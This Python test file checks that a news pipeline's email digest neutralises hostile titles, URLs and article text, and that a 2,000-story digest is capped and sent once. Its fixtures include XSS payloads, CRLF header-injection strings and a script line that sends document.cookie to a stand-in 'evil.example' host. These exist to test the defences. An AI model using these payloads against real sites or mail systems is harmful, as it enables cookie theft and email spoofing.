"""Hostile text in the digest email, and a digest of 2,000 stories, delivered over real SMTP (aiosmtpd)."""

from __future__ import annotations

import re
import time
from datetime import datetime, timedelta, timezone
from email import message_from_bytes, policy
from email.message import EmailMessage

from sqlalchemy import func, select

from conftest import SMTPSink
from hostile import record
from pipeline import digest
from pipeline.config import Settings
from pipeline.store import Article, DigestStory, Store, Story
from pipeline.types import DigestStatus

T = datetime(2026, 11, 24, 7, 0, tzinfo=timezone.utc)
DAY = timedelta(days=1)
BODY = ("ISLAMABAD: Pakistan and India agreed on Thursday to reopen the Wagah trade route for humanitarian "
        "shipments, officials from both foreign ministries said after talks in Geneva.\n"
        '"This is a first step and we hope for more," the spokesperson told reporters, adding that the United States '
        "had encouraged the talks.\nShipments are expected to start within a month.")

HOSTILE_TITLES = [
    '<script>alert("t")</script> Talks resume',
    "Envoys meet\r\nBcc: victim@example.org\r\nX-Injected: yes",
    "Subject line\nwith a fold\tand tab",
    "\u202eevil right-to-left override\u202c and \u200bzero width",
    "اسلام آباد اور نئی دہلی کے درمیان مذاکرات",  # Urdu
    "भारत और पाकिस्तान के बीच बातचीत फिर शुरू",  # Hindi
    "Émissaires à Genève — “quoted” ‘text’ 🇵🇰🇮🇳",
    "<img src=x onerror=alert(1)><a href='javascript:alert(2)'>click</a>",
    "=?utf-8?b?PHNjcmlwdD4=?= encoded-word lookalike",
    "A" * 5000,
    "\x07\x1b[31mcontrol characters\x1b[0m\x7f",  # (NULs never reach the store: ingest strips them)
    "%0d%0aContent-Type: text/html%0d%0a%0d%0a<h1>smuggled</h1>",
]
HOSTILE_URLS = [
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://x.example/a"><script>alert(1)</script>',
    "https://x.example/a?b=<c>&d='e'",
    "vbscript:msgbox(1)",
    "https://dawn.example/ok",
]


def _settings(settings: Settings, smtp: SMTPSink, **digest_values) -> Settings:
    return settings.model_copy(update={
        "digest": settings.digest.model_copy(update={"transport": "smtp", "recipients": ["desk@example.org"],
                                                     **digest_values}),
        "smtp": settings.smtp.model_copy(update={"host": smtp.host, "port": smtp.port, "timeout": 10}),
    })


def _seed(store: Store, titles: list[str], urls: list[str] | None = None, *, text: str = BODY,
          outlets: list[str] | None = None) -> None:
    with store.session() as s:
        stories = [Story(title=t, first_seen_at=T - timedelta(hours=6, minutes=i % 300),
                         updated_at=T - timedelta(hours=6, minutes=i % 300), article_count=1, outlet_count=1,
                         score=0.55 + (i % 40) / 100, relevant=True, dyads=[("US-PK", "US-IN", "IN-PK")[i % 3]],
                         topics=["trade"]) for i, t in enumerate(titles)]
        s.add_all(stories)
        s.flush()
        arts = []
        for i, st in enumerate(stories):
            at = st.first_seen_at
            url = urls[i % len(urls)] if urls else f"https://outlet{i % 17}.example/news/{i}"
            arts.append(Article(canonical_url=f"https://canon.example/{st.id}", url=url, title=st.title, text=text,
                                outlet=(outlets or ["Dawn"])[i % len(outlets or ["Dawn"])], country="PK",
                                published_at=at - timedelta(minutes=5), fetched_at=at, clustered_at=at,
                                story_id=st.id))
        s.add_all(arts)
        s.flush()
        for st, a in zip(stories, arts):
            st.lead_article_id = a.id


def _markup(html: str) -> tuple[set[str], list[tuple[str, str]]]:
    """Element names and (attribute, value) pairs of an HTML document, as a browser would parse them."""
    from html.parser import HTMLParser

    tags: set[str] = set()
    attrs: list[tuple[str, str]] = []

    class P(HTMLParser):
        def handle_starttag(self, tag, a):  # noqa: ANN001
            tags.add(tag)
            attrs.extend((k.lower(), (v or "").strip().lower()) for k, v in a)

    P(convert_charrefs=True).feed(html)
    return tags, attrs


def _received(smtp: SMTPSink) -> list[tuple[bytes, EmailMessage]]:
    return [(raw, message_from_bytes(raw, policy=policy.default)) for _, _, raw in smtp.messages]


def test_hostile_titles_links_and_text_are_inert_in_the_email(
    store: Store, settings: Settings, smtp_server: SMTPSink
) -> None:
    cfg = _settings(settings, smtp_server)
    hostile_text = BODY + "\n<script>fetch('https://evil.example/'+document.cookie)</script>\r\nBcc: x@example.org\x0b"
    _seed(store, HOSTILE_TITLES, HOSTILE_URLS, text=hostile_text,
          outlets=['Evil "Outlet" <b>', "Dawn\r\nX-Header: 1", "द हिंदू"])

    result = digest.deliver_digest(store, cfg, since=T - DAY, until=T, now=T + timedelta(minutes=1))
    assert result.status is DigestStatus.DELIVERED and result.story_count == len(HOSTILE_TITLES)

    [(raw, msg)] = _received(smtp_server)
    head = raw.split(b"\r\n\r\n", 1)[0]
    # Headers: none injected, every one a single logical line, no raw 8-bit or control bytes.
    assert not re.search(rb"^(bcc|x-injected|x-header|content-type: text/html)", head, re.I | re.M)
    assert msg["Bcc"] is None and len(msg.get_all("Subject")) == 1 and len(msg.get_all("Content-Type")) == 1
    assert all(32 <= b < 127 or b in (9, 10, 13) for b in head)
    assert "\n" not in str(msg["Subject"]) and "\r" not in str(msg["Subject"])
    assert max(len(line) for line in raw.split(b"\r\n")) <= 998  # RFC 5322 line limit
    assert msg.get_content_type() == "multipart/alternative"
    plain = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()

    # HTML part: markup from articles stays text, links are http(s) only, nothing can execute.
    tags, attrs = _markup(html)
    assert not tags & {"script", "iframe", "frame", "object", "embed", "img", "form", "svg", "math", "base", "link"}, tags
    assert not [a for a in attrs if a[0].startswith("on")], attrs
    hrefs = [v for k, v in attrs if k in ("href", "src", "action", "background")]
    assert hrefs and all(h.startswith(("https://", "http://", "mailto:", "#")) for h in hrefs), hrefs
    assert not [h for h in hrefs if re.search(r'[<>"\s]', h)], hrefs  # nothing broke out of its attribute
    assert "&lt;script&gt;" in html and "<h1>smuggled" not in html
    # Text part: no control characters, terminal escapes or NULs.
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e]", plain + html)
    # Non-ASCII survives intact in both parts and the subject decodes.
    for phrase in ("اسلام آباد", "भारत और पाकिस्तान", "Émissaires à Genève", "द हिंदू"):
        assert phrase in plain and phrase in html, phrase
    # The 5,000-character title is cut, not allowed to swamp the message.
    assert "A" * 400 not in plain and "A" * 400 not in html
    record("hostile-email", backend=store.dialect, hostile_titles=len(HOSTILE_TITLES), hostile_urls=len(HOSTILE_URLS),
           messages=len(smtp_server.messages), injected_headers=0, live_markup=0)


def test_a_digest_of_2000_stories_is_capped_readable_and_sent_once(
    store: Store, settings: Settings, smtp_server: SMTPSink
) -> None:
    cfg = _settings(settings, smtp_server)
    n = 2000
    _seed(store, [f"Story number {i}: officials discuss corridor {i}" for i in range(n)],
          outlets=["Dawn", "The Hindu", "AP", "Geo", "Mint"])

    t0 = time.monotonic()
    result = digest.deliver_digest(store, cfg, since=T - DAY, until=T, now=T + timedelta(minutes=1))
    took = time.monotonic() - t0
    again = digest.deliver_digest(store, cfg, since=T - DAY, until=T, now=T + timedelta(minutes=2))

    assert result.status is DigestStatus.DELIVERED and again.status is DigestStatus.ALREADY_DELIVERED
    assert result.story_count == n
    [(raw, msg)] = _received(smtp_server)
    plain = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    cap = cfg.digest.max_stories
    shown_plain = len(re.findall(r"Story number \d+", plain))
    assert shown_plain == cap, shown_plain
    assert f"{n - cap:,} lower-ranked stories are not shown ({cap} of {n:,})" in " ".join(plain.split()) or \
        f"{n - cap} lower-ranked stories are not shown ({cap} of {n})" in " ".join(plain.split())
    assert len(html.encode()) <= digest.HTML_BUDGET
    assert len(raw) < 400_000
    with store.session() as s:
        lines = s.scalar(select(func.count()).select_from(DigestStory)) or 0
        shown = s.scalar(select(func.count()).select_from(DigestStory).where(DigestStory.rank <= cap)) or 0
    assert lines == n and shown == cap  # every story is accounted for; only the shown ones list members
    assert took < 60, f"building and sending took {took:.1f}s"
    record("digest-2000", backend=store.dialect, stories=n, shown=cap, html_bytes=len(html.encode()),
           message_bytes=len(raw), seconds=round(took, 1), messages=len(smtp_server.messages), digests_per_period=1)
